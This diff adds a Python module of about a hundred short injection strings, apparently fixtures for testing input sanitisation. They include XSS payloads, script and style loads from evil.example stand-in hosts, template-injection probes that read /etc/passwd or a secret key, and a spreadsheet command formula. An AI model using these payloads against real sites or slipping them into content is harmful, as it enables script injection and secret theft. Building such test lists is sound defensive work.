@@ -1,0 +1,46 @@
+"""A hundred things that somebody may type where a browser, a template or a script takes them for more than text (T21).
+
+They are at most 40 characters, to fit into a title. Many are from the OWASP XSS Filter Evasion Cheat Sheet."""
+
+from __future__ import annotations
+
+HOSTILE = (
+    "<script>alert(1)</script>", "<ScRiPt>alert(2)</sCrIpT>", "<script >alert(3)</script >",
+    "<script/x>alert(4)</script>",
+    "<script>alert(5)//", "<script src=//evil.example/6></script>", "<script src=data:,alert(7)></script>",
+    "<script type=module>alert(8)</script>", "<<script>alert(9)//<</script>", "</script><script>alert(10)</script>",
+    "<scr<script>ipt>alert(11)</scr</script>", "<script\\x20>alert(12)</script>",
+    "<img src=x onerror=alert(13)>", "<img/src=x/onerror=alert(14)>", "<img src=x:x onerror=alert`15`>",
+    "<img src onerror=alert(16)>", "<IMG SRC=javascript:alert(17)>", "<img srcset=x onerror=alert(18)>",
+    '<img """><script>alert(19)</script>', "<image src=x onerror=alert(20)>", "<img src=x onerror=&#97;lert(21)>",
+    "<svg onload=alert(22)>", "<svg/onload=alert(23)>", "<svg><script>alert(24)</script></svg>",
+    "<svg><script>alert&#40;25)</script>", "<svg><set onbegin=alert(26)>", "<svg><animate onbegin=alert(27)>",
+    "<svg><a href=javascript:alert(28)>x</a>", "<svg><desc><body onload=alert(29)>",
+    "<svg><use href=data:,x onload=alert(30)>", "<math><a href=javascript:alert(31)>x",
+    "<math><mi/onclick=alert(32)>x", "<body onload=alert(33)>", "<body onpageshow=alert(34)>",
+    "<iframe src=javascript:alert(35)>", "<iframe srcdoc=<script>alert(36)>", "<iframe onload=alert(37)>",
+    "<frameset onload=alert(38)>", "<object data=javascript:alert(39)>", "<embed src=javascript:alert(40)>",
+    "<video src onerror=alert(41)>", "<video><source onerror=alert(42)>", "<audio src=x onerror=alert(43)>",
+    "<input autofocus onfocus=alert(44)>", "<select autofocus onfocus=alert(45)>",
+    "<textarea autofocus onfocus=alert(46)>", "<button autofocus onfocus=alert(47)>",
+    "<details open ontoggle=alert(48)>", "<marquee onstart=alert(49)>", "<a autofocus onfocus=alert(50) href=#>",
+    "<p tabindex=0 autofocus onfocus=alert()", "<div onpointerover=alert(52)>x</div>",
+    "<style>@import'//evil.example/53</style>", "<style>*{background:url(//e.example)}",
+    "<link rel=stylesheet href=//e.ex/55>",
+    "<meta http-equiv=refresh content=0;//e>", "<base href=//evil.example/57/>", "<form action=//evil.example/58>",
+    "<form><button formaction=javascript:59>", "<isindex action=javascript:alert(60)>",
+    "<a href=javascript:alert(61)>x</a>", "<a href='java&#115;cript:alert(62)'>x", "<a href=data:text/html,63>x</a>",
+    "<a href=vbscript:msgbox(64)>x</a>", "javascript:alert(65)", "data:text/html,<script>alert(66)</script",
+    "<!--><script>alert(67)</script>-->", "--><script>alert(68)</script>", "<!--[if IE]><script>alert(69)//",
+    "<![CDATA[<script>alert(70)</script>]]>", "]]><script>alert(71)</script>", "<?xml ?><script>alert(72)</script>",
+    "<xss id=x tabindex=1 onfocus=alert(73)>", "<template><script>alert(74)</script>",
+    "<noscript><p title='</noscript><svg onl", "<title><script>alert(6)</script></title>",
+    "</title><script>alert(77)</script>", "</textarea><script>alert(78)</script>", "</style><script>alert(79)</script>",
+    "</option></select><svg onload=alert(80)>", "</svg><svg onload=alert(81)>",
+    '"><svg onload=alert(82)>', "'><svg onload=alert(83)>", '" onfocus=alert(84) autofocus x="',
+    "' onfocus=alert(85) autofocus x='", "` onfocus=alert(86) autofocus", '" style="x:expression(87)',
+    '"><!--', "'-alert(89)-'", '";alert(90);//', "\\';alert(91);//", "\\u003cscript>alert(92)</script>",
+    "&lt;script&gt;alert(93)&lt;/script&gt;", "&#60;svg onload=alert(94)&#62;", "%3Csvg onload=alert(95)%3E",
+    "{{7*7}}${7*7}#{7*7}<%=7*7%>", "{% include '/etc/passwd' %}", "{{config.SECRET_KEY}}", "__proto__",
+    "=cmd|'/c calc'!A0",
+)  # fmt: skip
